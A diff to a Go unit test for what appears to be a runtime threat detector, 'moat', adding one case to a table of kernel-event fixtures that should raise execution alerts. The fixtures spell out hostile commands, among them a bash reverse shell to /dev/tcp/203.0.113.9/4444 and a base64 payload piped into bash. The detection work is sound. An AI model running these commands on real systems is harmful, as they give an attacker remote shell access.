@@ -43,6 +43,7 @@ func TestAnalyze(t *testing.T) {
 		{"base64 piped to bash", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo aWQK|base64 -d|bash", PID: 4}}, moat.CategoryExecution, "high"},
 		{"/dev/tcp", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", Detail: "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", PID: 4}}, moat.CategoryExecution, "critical"},
 		{"shell with stdio on a socket", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh", Stdio: "0,1,2", PID: 4}}, moat.CategoryExecution, "critical"},
+		{"a failed exec with its stdio on a socket (reqwestss)", []moat.Event{{Source: "kernel", Kind: "exec-failed", Path: "/tmp/b'/bin/bash'", Detail: "b'/bin/bash' -i", Stdio: "0,1,2", PID: 14, PPID: 13}}, moat.CategoryExecution, "high"},
 		{"connect in the parent, shell in the child", []moat.Event{
 			{Source: "kernel", Kind: "connect", Addr: "13.93.28.37:8888", PID: 7, TimeMS: 1},
 			{Source: "kernel", Kind: "exec", Path: "/bin/bash", Detail: "/bin/bash", PID: 8, PPID: 7, TimeMS: 3}}, moat.CategoryExecution, "critical"},
